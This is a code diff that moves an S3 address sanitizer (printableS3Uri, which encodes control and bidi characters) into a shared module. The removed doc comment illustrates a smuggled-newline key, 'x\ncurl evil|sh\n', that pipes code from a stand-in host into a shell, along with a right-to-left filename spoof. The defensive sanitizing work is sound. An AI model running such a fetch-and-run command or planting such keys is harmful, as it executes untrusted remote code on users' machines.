@@ -9,6 +9,7 @@ import type {
 } from '../../common/ipc';
 import { isArchiveClass, parseRestore } from './archive-status';
 import { ServiceError } from '../shared/errors';
+import { printableS3Uri } from '../shared/unsafe-characters';
 import { isFolderMarker, listRecursive, type ListedObject } from './list-recursive';
 import { mapS3Error } from '../aws/s3-errors';
 import { describeKeys } from './selected-keys';
@@ -131,22 +132,6 @@ export function s3Uri(ref: ObjectRef): string {
   return `s3://${ref.bucket}/${ref.key}`;
 }
 
-// C0 and C1 controls and DEL (a newline in a key would run a command when pasted into a shell),
-// bidi embeddings, overrides and isolates, zero-width characters, the line and paragraph separators.
-// eslint-disable-next-line no-control-regex
-const UNSAFE_IN_URI = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060\u2066-\u2069\ufeff]/gu;
-
-/**
- * The s3:// address as it is safe to paste or show: the characters above
- * become %XX (their UTF-8 bytes), so "x\ncurl evil|sh\n" stays one line and
- * "a\u202Etxt.exe" shows its real order. Everything else stays as the key
- * has it, spaces, "%" and non-Latin letters included, as the S3 console
- * copies keys; so only a key holding such characters gets an address that
- * differs from its key (and that the AWS CLI would not find as written).
- */
-export function printableS3Uri(ref: ObjectRef): string {
-  return s3Uri(ref).replace(UNSAFE_IN_URI, (char) => encodeURIComponent(char));
-}
 
 /** The folder part shared by keys, to say where something failed. */
 function commonFolder(keys: readonly string[]): string {
